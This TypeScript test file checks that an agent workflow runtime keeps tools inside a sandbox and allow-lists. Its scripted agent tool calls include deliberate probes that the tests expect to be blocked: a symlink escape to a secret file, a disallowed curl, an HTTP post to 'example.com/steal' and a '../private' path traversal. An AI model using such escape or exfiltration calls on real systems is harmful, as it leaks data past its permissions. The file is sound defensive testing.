import { once } from 'node:events';
import { mkdir, mkdtemp, readFile, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ToolCallRecord } from '../../agent/agent-result.ts';
import { createRuntime } from '../../create-runtime.ts';
import { scriptedModel } from '../../model/scripted/index.ts';
import type { ScriptEntry } from '../../model/scripted/script.ts';
import { parseWorkflow } from '../load/parse-workflow.ts';
import { createAgentInvoker } from './create-agent-invoker.ts';
import { runWorkflow } from './run-workflow.ts';

let server: Server;
let port: number;
const received: { method: string; url: string; headers: IncomingMessage['headers']; body: string }[] = [];
let folder: string;
let workspace: string;
let outside: string;

beforeAll(async () => {
  server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    received.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
    response.writeHead(201, { 'content-type': 'application/json' }).end('{"ok":true}');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  port = (server.address() as AddressInfo).port;
});

afterAll(async () => {
  server.closeAllConnections();
  server.close();
  await once(server, 'close');
});

beforeEach(async () => {
  received.length = 0;
  folder = await realpath(await mkdtemp(join(tmpdir(), 'vega-workflow-tools-')));
  outside = await realpath(await mkdtemp(join(tmpdir(), 'vega-outside-')));
  workspace = join(folder, 'workspace');
  await mkdir(workspace);
  await writeFile(join(outside, 'secret.txt'), 'top secret');
});

afterEach(async () => {
  await rm(folder, { recursive: true, force: true });
  await rm(outside, { recursive: true, force: true });
});

/** Loads the file from the temporary folder and runs its workflow with a scripted model. */
async function run(text: string, replies: ScriptEntry[]) {
  const model = scriptedModel({ replies });
  const runtime = createRuntime({ env: {} });
  const environment = { ...runtime.environment, resolveModel: () => model };
  const document = parseWorkflow(text, join(folder, 'team.vega.yaml'), { env: {} });
  const toolCalls: ToolCallRecord[] = [];
  const result = await runWorkflow(document, {
    inputs: {},
    invokeAgent: createAgentInvoker(document, {
      environment,
      onAgentResult: (_agent, agentResult) => toolCalls.push(...agentResult.toolCalls),
    }),
  });
  model.assertComplete();
  return { result, toolCalls, model };
}

const outputs = (calls: readonly ToolCallRecord[]) =>
  Object.fromEntries(calls.map((call) => [call.toolCallId, { output: call.output, isError: call.isError }]));

describe('tools in a workflow run', () => {
  it('offers the built-ins, confined to the sandbox and the allow-lists', async () => {
    const text = `
settings:
  sandbox: workspace
  allowed_commands: [${JSON.stringify(process.execPath)}]
  allowed_hosts: ["127.0.0.1:${port}"]
agents:
  Worker:
    model: scripted:team
    system: You work.
    tools: [append_file, read_file, run_command, http_get, http_post]
workflows:
  main:
    steps:
      - Worker: "Do the work"
        save: answer
    output: "{{answer}}"
`;
    await symlink(outside, join(workspace, 'escape'));
    const { result, toolCalls, model } = await run(text, [
      {
        agent: 'Worker',
        toolCalls: [
          { id: 'a1', name: 'append_file', input: { path: 'log.txt', content: 'one\n' } },
          { id: 'a2', name: 'append_file', input: { path: 'log.txt', content: 'two\n' } },
          { id: 'r1', name: 'read_file', input: { path: 'escape/secret.txt' } },
          {
            id: 'c1',
            name: 'run_command',
            input: {
              command: process.execPath,
              args: ['-e', 'console.log(require("node:fs").readFileSync("log.txt", "utf8").length)'],
            },
          },
          { id: 'c2', name: 'run_command', input: { command: 'curl', args: ['http://example.com'] } },
          { id: 'h1', name: 'http_get', input: { url: `http://127.0.0.1:${port}/status` } },
          { id: 'h2', name: 'http_post', input: { url: 'https://example.com/steal', body: 'x' } },
        ],
      },
      { agent: 'Worker', text: 'done' },
    ]);
    expect(result.output).toBe('done');
    expect(await readFile(join(workspace, 'log.txt'), 'utf8')).toBe('one\ntwo\n');
    expect(outputs(toolCalls)).toEqual({
      a1: { output: 'Appended 4 bytes to log.txt', isError: false },
      a2: { output: 'Appended 4 bytes to log.txt', isError: false },
      r1: {
        output:
          "Tool 'read_file' failed: Path 'escape/secret.txt' is outside the sandbox: a symbolic link leads out of it.",
        isError: true,
      },
      c1: { output: { exit_code: 0, stdout: '8\n', stderr: '' }, isError: false },
      c2: {
        output: `Tool 'run_command' failed: Command 'curl' is not allowed; allowed commands: ${process.execPath}.`,
        isError: true,
      },
      h1: { output: { status: 201, content_type: 'application/json', body: '{"ok":true}' }, isError: false },
      h2: {
        output: `Tool 'http_post' failed: Request to 'https://example.com/steal' is not allowed; allowed hosts: 127.0.0.1:${port}.`,
        isError: true,
      },
    });
    // The model read the refusals as tool results, and the run went on.
    const secondCall = JSON.stringify(model.calls[1]?.options.prompt);
    expect(secondCall).toContain('is outside the sandbox');
    expect(received.map((request) => `${request.method} ${request.url}`)).toEqual(['GET /status']);
  });

  it('runs custom tools: http templates over the params, exec, and files inside their allowed paths', async () => {
    await writeFile(join(workspace, 'private.md'), 'not for tools');
    const text = `
settings:
  sandbox: workspace
tools:
  post_note:
    description: Post a note to a channel
    params:
      channel: { type: string, required: true, enum: [ops, dev] }
      message: { type: string, required: true }
      urgent: { type: boolean, default: false }
    implementation:
      type: http
      method: POST
      url: "http://127.0.0.1:${port}/notes/{{channel}}"
      query: { urgent: "{{urgent}}" }
      headers: { X-Team: "vega-{{channel}}" }
      body: { text: "{{message | upper}}", urgent: "{{urgent}}" }
  double:
    params: [{ name: n, type: integer, required: true }]
    implementation:
      type: exec
      command: ${JSON.stringify(process.execPath)}
      args: ["-e", "console.log({{n}} * 2)"]
    capabilities: { allowed_commands: [${JSON.stringify(process.execPath)}] }
  save_report:
    params: [{ name: name, type: string, required: true }, { name: content, type: string, required: true }]
    implementation: { type: file_write, path: "reports/{{name}}.md" }
    capabilities: { allowed_paths: [reports] }
  read_report:
    params: { name: { type: string, required: true } }
    implementation: { type: file_read, path: "reports/{{name}}.md" }
    capabilities: { allowed_paths: [reports] }
agents:
  Worker:
    model: scripted:team
    system: You work.
    tools: [post_note, double, save_report, read_report]
workflows:
  main:
    steps:
      - Worker: "Do the work"
`;
    const { toolCalls } = await run(text, [
      {
        agent: 'Worker',
        toolCalls: [
          { id: 'p1', name: 'post_note', input: { channel: 'ops', message: 'deploy done', urgent: true } },
          { id: 'p2', name: 'post_note', input: { channel: 'sales', message: 'x' } },
          { id: 'd1', name: 'double', input: { n: 21 } },
          { id: 's1', name: 'save_report', input: { name: 'q1', content: '# Q1' } },
        ],
      },
      {
        // Tool calls of one turn may run concurrently: the read waits for the next turn.
        agent: 'Worker',
        toolCalls: [
          { id: 'r1', name: 'read_report', input: { name: 'q1' } },
          { id: 'r2', name: 'read_report', input: { name: '../private' } },
        ],
      },
      { agent: 'Worker', text: 'done' },
    ]);
    const byId = outputs(toolCalls);
    expect(byId.p1).toEqual({
      output: { status: 201, content_type: 'application/json', body: '{"ok":true}' },
      isError: false,
    });
    expect(received).toHaveLength(1);
    expect(received[0]).toMatchObject({
      method: 'POST',
      url: '/notes/ops?urgent=true',
      body: '{"text":"DEPLOY DONE","urgent":true}',
      headers: { 'x-team': 'vega-ops', 'content-type': 'application/json' },
    });
    expect(byId.p2?.isError).toBe(true);
    expect(String(byId.p2?.output)).toContain("Invalid arguments for tool 'post_note'");
    expect(byId.d1).toEqual({ output: { exit_code: 0, stdout: '42\n', stderr: '' }, isError: false });
    expect(byId.s1).toEqual({ output: 'Wrote 4 bytes to reports/q1.md', isError: false });
    expect(byId.r1).toEqual({ output: '# Q1', isError: false });
    expect(byId.r2).toEqual({
      output:
        "Tool 'read_report' failed: Path 'reports/../private.md' is outside the sandbox: the tool may only use reports.",
      isError: true,
    });
  });
});
